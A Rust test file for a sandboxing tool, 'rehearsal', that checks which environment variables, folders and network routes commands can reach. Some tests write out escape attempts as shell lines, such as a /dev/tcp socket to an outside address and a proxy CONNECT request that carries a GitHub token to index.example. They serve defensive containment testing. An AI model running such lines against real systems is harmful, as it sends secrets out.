//! What COMMAND can and cannot reach: variables, folders, the network.
//! Shell commands that try to get out; nothing is known of how they are held back.

use std::path::Path;

use crate::project::{Project, QUIET, command, ended, quiet};

#[test]
fn the_environment_is_closed() {
    let project = Project::new("https://github.com/acme/greet.git");
    // Some shells add the last four.
    let names = "env | cut -d= -f1 | grep -vxE 'REHEARSAL_[A-Z_]*|PWD|OLDPWD|SHLVL|_' | sort";
    let mut command =
        project.rehearsal(&format!("{names}; ls -A ~; ls -A $TMPDIR; echo $NO_PROXY $CI $HOME"));
    for name in [
        "GITHUB_TOKEN",
        "SSH_AUTH_SOCK",
        "https_proxy",
        "GIT_DIR",
        "LD_PRELOADED",
        "LANDFALL_OVERLAY",
    ] {
        command.env(name, "/from/outside");
    }
    let found = ended(&command.env("CI", "true").output().unwrap());
    let names = "ALL_PROXY CI GIT_ALLOW_PROTOCOL GIT_CONFIG_GLOBAL GIT_CONFIG_NOSYSTEM GIT_TERMINAL_PROMPT HOME \
        HTTPS_PROXY HTTP_PROXY LANDFALL_OVERLAY LANG NO_PROXY PATH TMPDIR XDG_CACHE_HOME XDG_CONFIG_HOME \
        XDG_DATA_HOME XDG_RUNTIME_DIR XDG_STATE_HOME all_proxy http_proxy https_proxy no_proxy";
    let home = project.state().join("home");
    let lines: Vec<&str> = found.stdout.lines().collect();
    assert_eq!(lines[..23], names.split_whitespace().collect::<Vec<_>>());
    assert_eq!(lines[23..], [format!("127.0.0.1,localhost,::1 true {}", home.display())]);
    assert_eq!((found.code, found.stderr.as_str()), (Some(0), QUIET));
}

#[test]
fn the_overlay_names_loopback_endpoints_and_variables_but_no_token() {
    let project = Project::new("https://github.com/acme/greet.git");
    let found = project.run("cat $LANDFALL_OVERLAY");
    let overlay: serde_json::Value = serde_json::from_str(&found.stdout).unwrap();
    let config = &overlay["tools"]["gh-release"]["config"];
    assert_eq!(overlay["schema"], 1);
    assert!(config["base_url"].as_str().unwrap().starts_with("http://127.0.0.1:"), "{overlay}");
    assert_eq!(config["token"], "${REHEARSAL_GITHUB_TOKEN}");
    assert_eq!((found.code, found.stderr.as_str()), (Some(0), QUIET));
}

#[test]
fn there_is_no_way_to_the_network() {
    let project = Project::new("https://github.com/acme/greet.git");
    let found = project.run("git ls-remote https://git.example.com/other/one.git; echo $?");
    assert_eq!(found.stdout, "128\n");
    let found = project
        .run("git -c protocol.allow=always ls-remote git@git.example.com:other/one.git; echo $?");
    assert_eq!(found.stdout, "128\n");
    assert!(found.stderr.contains("transport 'ssh' not allowed"), "{}", found.stderr);
    // An address that is routed nowhere (RFC 5737): in a namespace the answer is immediate.
    let found = project.run("timeout 20 bash -c 'exec 3<>/dev/tcp/192.0.2.1/80'; echo $?");
    let code = found.stdout.lines().next().unwrap().to_owned();
    assert!(code == "1" || (code == "124" && !namespaces()), "{found:?}");
}

/// Tells whether this machine lets us make network namespaces at all.
fn namespaces() -> bool {
    let options = ["--user", "--map-root-user", "--net", "true"];
    command("unshare", Path::new("/")).args(options).status().is_ok_and(|status| status.success())
}

#[test]
fn a_machine_without_namespaces_is_told_of_and_rehearses() {
    let project = Project::new("https://github.com/acme/greet.git");
    project.sh("mkdir ../bin; printf '#!/bin/sh\\necho not here >&2; exit 1\\n' >../bin/unshare; chmod +x ../bin/unshare");
    let path = format!(
        "{}:{}",
        project.folder.path().join("bin").display(),
        std::env::var("PATH").unwrap()
    );
    let output = project.rehearsal("echo on").env("PATH", path).output().unwrap();
    let warning = "rehearsal: warning: no network namespace here, so only git and proxies are shut: \
        `unshare` failed (exit status: 1): not here\n";
    assert!(String::from_utf8_lossy(&output.stderr).starts_with(warning), "{output:?}");
    assert_eq!(ended(&output), quiet(0, "on\n"));
}

#[test]
fn whoever_asks_the_proxy_is_told_no_and_named() {
    let project = Project::new("https://github.com/acme/greet.git");
    let ask = "printf 'CONNECT index.example:443 HTTP/1.1\\r\\nX: %s\\r\\n\\r\\n' \"$WORD\" >&3; head -n1 <&3";
    let script = |word: &str| {
        format!(
            "export WORD={word}; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${{HTTPS_PROXY##*:}}; {}'",
            ask.replace('\'', "'\\''")
        )
    };
    let found = project.run(&script("harmless"));
    assert_eq!((found.code, found.stdout.as_str()), (Some(0), "HTTP/1.1 403 Forbidden\r\n"));
    assert!(
        found.stderr.contains("rehearsal: warning: no way out to index.example:443, tried once\n"),
        "{}",
        found.stderr
    );
    let found = project.run(&script("$REHEARSAL_GITHUB_TOKEN"));
    assert_eq!((found.code, found.stdout.as_str()), (Some(1), "HTTP/1.1 403 Forbidden\r\n"));
    assert!(
        found
            .stderr
            .contains("rehearsal: error: canary token on its way to index.example:443 (plain)\n"),
        "{}",
        found.stderr
    );
}

#[test]
fn rooms_are_emptied_unless_they_are_kept() {
    let project = Project::new("https://github.com/acme/greet.git");
    assert_eq!(project.run("echo a >~/a; mkdir -m 500 ~/b; echo a >$TMPDIR/a"), quiet(0, ""));
    assert_eq!(project.run("ls -A ~; ls -A $TMPDIR"), quiet(0, ""));
    let command = project.rehearsal("echo a >~/a; echo $TMPDIR; echo b >$TMPDIR/b");
    let arguments: Vec<_> = command.get_args().map(ToOwned::to_owned).collect();
    let mut kept = self::command(env!("CARGO_BIN_EXE_rehearsal"), &project.path());
    kept.arg("run").arg("--keep").args(&arguments[1..]);
    let found = ended(&kept.output().unwrap());
    let temporary = found.stdout.trim();
    assert!(
        found.stderr.ends_with(&format!("rehearsal: kept: dist/rehearsal/home and {temporary}\n")),
        "{}",
        found.stderr
    );
    for path in [project.state().join("home/a"), Path::new(temporary).join("b")] {
        assert!(path.is_file(), "{}", path.display());
    }
    std::fs::remove_dir_all(temporary).unwrap();
}
